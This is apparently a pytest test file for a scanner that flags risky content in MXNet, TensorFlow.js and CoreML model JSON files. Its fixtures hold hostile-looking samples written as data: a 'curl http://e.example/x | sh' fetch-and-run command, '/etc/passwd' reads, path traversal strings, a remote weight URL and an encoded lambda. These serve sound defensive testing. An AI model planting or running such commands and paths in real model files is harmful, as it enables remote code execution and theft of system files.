"""JSON documents of inference engines are known by what they hold, whatever they are called."""

import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from garrison import scan
from garrison.core.facts import Artifact
from tests.support import examine_bytes, facts_of, findings_of, worst


def symbol(*nodes: dict[str, object], **more: object) -> bytes:
    data = {"op": "null", "name": "data", "inputs": []}
    return json.dumps({"nodes": [data, *nodes], "arg_nodes": [0], "heads": [[1, 0, 0]], **more}).encode()


def node(op: str, key: str = "attrs", **attributes: str) -> dict[str, object]:
    return {"op": op, "name": "n", key: attributes, "inputs": [[0, 0, 0]]}


def test_an_ordinary_graph_tells_of_itself_and_is_no_finding() -> None:
    data = symbol(node("Convolution", kernel="(3, 3)"), attrs={"mxnet_version": ["int", 10900]})
    assert findings_of(data, "m-symbol.json") == []
    details = [f.details for f in facts_of(data) if isinstance(f, Artifact) and f.format == "mxnet"]
    assert details == [{"mxnet_version": "1.9.0", "operators": 2}]


@pytest.mark.parametrize("key", ["attrs", "attr", "param"])
@pytest.mark.parametrize("op", ["_Native", "_NDArray"])
def test_an_address_in_the_file_is_critical(op: str, key: str) -> None:
    (found,) = findings_of(symbol(node(op, key, info="139637976727552")))
    assert (found.rule, found.severity, found.place) == ("native-pointer-operator", "critical", "node 'n'")
    assert "139637976727552" in found.message


def test_custom_operators_files_and_libraries() -> None:
    (custom,) = findings_of(symbol(node("Custom", op_type="softmax")))
    assert (custom.rule, custom.severity) == ("custom-operator", "medium")
    (commanded,) = findings_of(symbol(node("Custom", op_type="x", after="curl http://e.example/x | sh")))
    assert (commanded.rule, commanded.severity) == ("suspicious-call", "high")
    (reading,) = findings_of(symbol(node("_cvimread", filename="/etc/passwd")))
    assert (reading.rule, reading.severity) == ("file-operator", "high")
    (library,) = findings_of(symbol(node("relu", path="/tmp/x.so")))
    assert (library.rule, library.severity) == ("escaping-reference", "high")


def test_graphs_inside_nodes_are_read() -> None:
    inner = json.loads(symbol(node("_Native", info="1")))
    data = symbol({"op": "_foreach", "name": "f", "inputs": [], "subgraphs": [inner]})
    assert worst(findings_of(data)) == "critical"


def test_another_framework_with_the_same_shape_is_no_mxnet() -> None:
    data = symbol(node("tvm_op", func_name="fused"))
    assert not any(isinstance(f, Artifact) and f.format == "mxnet" for f in facts_of(data))


def tensorflow_js(*paths: str, topology: object = None) -> bytes:
    weights = [{"paths": list(paths), "weights": [{"name": "w", "shape": [2], "dtype": "float32"}]}]
    return json.dumps({"format": "layers-model", "modelTopology": topology, "weightsManifest": weights}).encode()


def test_shards_beside_a_tensorflow_js_model_are_its_data(tmp_path: Path) -> None:
    (tmp_path / "model.json").write_bytes(tensorflow_js("group1-shard1of1.bin"))
    (tmp_path / "group1-shard1of1.bin").write_bytes(b"\x9a\xf1\x02\xff" * 2)
    report = scan(str(tmp_path))
    assert report.coverage.entries == () and report.findings == ()


@pytest.mark.parametrize("path", ["../../other.bin", "/etc/passwd", "https://e.example/w.bin"])
def test_shards_from_elsewhere(path: str) -> None:
    assert worst(findings_of(tensorflow_js(path), "model.json")) == "high"


def test_a_lambda_in_a_tensorflow_js_model_runs_where_python_converts_it() -> None:
    function = ["4wAAAAAAAAAAAAAAAAEAAAABAAAAQwAAAHMEAAAAfABTAA==", None, None]
    layer = {"class_name": "Lambda", "config": {"name": "l", "function": function, "function_type": "lambda"}}
    model = {"class_name": "Sequential", "config": {"name": "s", "layers": [layer]}}
    assert worst(findings_of(tensorflow_js("w.bin", topology={"model_config": model}))) in ("high", "critical")
    dense = {"class_name": "Dense", "config": {"name": "d", "units": 2, "activation": "relu"}}
    honest = {"class_name": "Sequential", "config": {"name": "s", "layers": [dense]}}
    assert findings_of(tensorflow_js("w.bin", topology={"model_config": honest})) == []


def package(**paths: str) -> bytes:
    entries = {key: {"author": "com.apple.CoreML", "path": path} for key, path in paths.items()}
    document = {"fileFormatVersion": "1.0.0", "itemInfoEntries": entries, "rootModelIdentifier": "a"}
    return json.dumps(document).encode()


def test_items_of_a_coreml_package_stay_inside_it() -> None:
    assert findings_of(package(a="com.apple.CoreML/model.mlmodel", b="com.apple.CoreML/weights"), "Manifest.json") == []
    for path in ("../../../etc/passwd", "/etc/passwd"):
        (found,) = findings_of(package(a=path), "Manifest.json")
        assert (found.rule, found.severity) == ("escaping-reference", "high")


def test_weights_of_a_compiled_coreml_network() -> None:
    network = {"storage": "model.espresso.weights", "format_version": 200, "layers": [{"type": "softmax"}]}
    assert findings_of(json.dumps(network).encode(), "model.espresso.net") == []
    escaping = json.dumps(network | {"storage": "/etc/passwd"}).encode()
    assert [f.rule for f in findings_of(escaping, "model.espresso.net")] == ["escaping-reference"]


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(max_size=5),
        lambda inner: (
            st.lists(inner, max_size=4)
            | st.dictionaries(
                st.sampled_from(
                    [
                        "nodes",
                        "heads",
                        "op",
                        "attrs",
                        "base_code",
                        "magic",
                        "program",
                        "#",
                        "A",
                        "AT",
                        "I",
                        "subgraphs",
                        "weightsManifest",
                        "paths",
                        "modelTopology",
                        "model_config",
                        "itemInfoEntries",
                        "path",
                        "format",
                    ]
                ),
                inner | st.sampled_from(["pir", "layers-model", "_Native", "1.save"]),
                max_size=5,
            )
        ),
        max_leaves=20,
    )
)
def test_no_document_raises(document: object) -> None:
    assert all(e.state != "failed" for e in examine_bytes(json.dumps(document).encode(), "x.json"))
